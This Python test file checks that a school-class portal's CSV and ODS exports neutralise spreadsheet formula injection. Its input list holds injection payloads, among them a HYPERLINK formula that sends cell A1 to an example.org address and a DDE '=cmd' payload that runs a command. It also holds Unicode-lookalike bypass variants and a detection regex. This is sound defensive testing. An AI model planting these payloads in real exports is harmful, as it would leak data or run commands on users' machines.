"""No cell is a formula, whatever an exhibit, a task or a unit is called."""

import csv
import io
import re
import zipfile
from dataclasses import replace
from xml.etree import ElementTree as ET

import pytest
from hypothesis import given
from hypothesis import strategies as st

from edge.contract.manifest import Texts
from portal.classes.cells import MARK, harmless
from portal.classes.spreadsheets import as_csv, as_ods
from portal.classes.tables import Column, Table

FORMULAS = (
    '=HYPERLINK("http://example.org?"&A1,"x")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "'=1+1",
    '"=1+1',
    "\ufeff=1+1",
    "\u200b=1+1",
    "\x00=1+1",
    "\u202e=1+1",
    "\uff1d1+1",
    "\ufe66cmd",
    "foo,=1+1,bar",
    "foo;=1+1;bar",
    'foo",=1+1,"bar',
    "foo\r\n=1+1",
    "foo|@SUM(1)",
    "\xa0=1+1",
    "=cmd|' /C calc'!A0",
)
BEGINS = re.compile(r"""^[\s"'`]*[=+\-@\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b\u2212]""")


def cells_of(text, delimiter):
    return [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("text", FORMULAS)
def test_no_formula_stays_one(text):
    assert not BEGINS.match(harmless(text))


@pytest.mark.parametrize("text", FORMULAS)
@pytest.mark.parametrize("parted", [";", ",", "\t", "|"])
@pytest.mark.parametrize("comma", [True, False])
def test_a_reader_that_parts_cells_elsewhere_finds_no_formula_either(text, parted, comma):
    table = Table("x", (Column(text), Column("b")), ((text, 1.5), (1.0, text)))
    read = as_csv(table, decimal_comma=comma).decode("utf-8-sig")
    assert not [cell for cell in cells_of(read, parted) if BEGINS.match(cell)]


@given(st.text(max_size=40))
def test_no_text_whatever_becomes_a_formula(text):
    table = Table(text, (Column(text),), ((text,),))
    for parted in ";,\t|":
        read = as_csv(table, decimal_comma=True).decode("utf-8-sig")
        assert not [cell for cell in cells_of(read, parted) if BEGINS.match(cell)]


def test_what_is_no_formula_stays_as_it_is():
    for text in ("Plasmabol", "Wip-wap 2", "De “langste” toon", "3 = 3", "été à 20 °C", "a/b"):
        assert harmless(text) == text
    assert harmless("=1") == f"{MARK}=1"


def content_of(table):
    with zipfile.ZipFile(io.BytesIO(as_ods(table))) as archive:
        assert archive.namelist()[0] == "mimetype"
        assert archive.getinfo("mimetype").compress_type == zipfile.ZIP_STORED
        assert archive.read("mimetype") == b"application/vnd.oasis.opendocument.spreadsheet"
        ET.fromstring(archive.read("META-INF/manifest.xml"))  # noqa: S314 - our own file
        return ET.fromstring(archive.read("content.xml"))  # noqa: S314 - our own file


TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
OFFICE = "{urn:oasis:names:tc:opendocument:xmlns:office:1.0}"


@pytest.mark.parametrize("text", FORMULAS)
def test_an_ods_has_typed_cells_and_no_formula_anywhere(text):
    table = Table(text, (Column(text), Column("best", 1)), ((text, 1.25), (1.0, None)))
    root = content_of(table)
    for one in root.iter():
        assert not [name for name in one.attrib if "formula" in name]
    cells = list(root.iter(f"{TABLE}table-cell"))
    types = [one.get(f"{OFFICE}value-type") for one in cells]
    assert types == ["string", "string", "string", "float", "float", None]
    said = ["".join(one.itertext()) for one in cells if one.get(f"{OFFICE}value-type") == "string"]
    assert not [one for one in said if BEGINS.match(one)]


def test_the_files_of_a_class_hold_numbers_and_never_a_formula_of_an_exhibit(web, hub, view):
    page = hub.class_page.shown
    stages = tuple(
        replace(
            one,
            manifest=replace(one.manifest, name=Texts(nl=FORMULAS[0])),
            task=Texts(nl=FORMULAS[1]),
        )
        for one in page.stages
    )
    hub.class_page.shown = replace(page, stages=stages)
    answer = web.get(f"{view}/page.csv")
    assert answer.headers["content-disposition"].startswith('attachment; filename="klas-5b-')
    read = answer.content.decode("utf-8-sig")
    assert not [cell for cell in cells_of(read, ";") if BEGINS.match(cell)]
    assert web.get(f"{view}/page.ods").status_code == 200


def test_a_csv_has_a_row_a_number_and_its_best_scores_as_that_language_writes_them(web, view):
    read = web.get(f"{view}/page.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(read), delimiter=";"))
    assert [row[0] for row in rows] == ["Nummer", *(str(n) for n in range(1, 25))]
    assert len({len(row) for row in rows}) == 1
    assert rows[0][2] == "1. Plasmabol"
    rope = rows[0].index("Koorddansen: Beste (seconden)")
    assert all(re.fullmatch(r"|\d+,\d", row[rope]) for row in rows[1:])
    assert any(row[rope] for row in rows[1:])
    blank = rows[9]
    assert blank[:2] == ["9", "niets bewaard"]
    assert set(blank[2:]) == {""}
    english = web.get(f"{view}/page.csv?lang=en").content.decode("utf-8-sig")
    assert next(csv.reader(io.StringIO(english)))[0] == "Number"


def test_an_ods_has_the_same_rows(web, view):
    answer = web.get(f"{view}/page.ods")
    with zipfile.ZipFile(io.BytesIO(answer.content)) as archive:
        root = ET.fromstring(archive.read("content.xml"))  # noqa: S314 - our own file
    assert len(list(root.iter(f"{TABLE}table-row"))) == 25
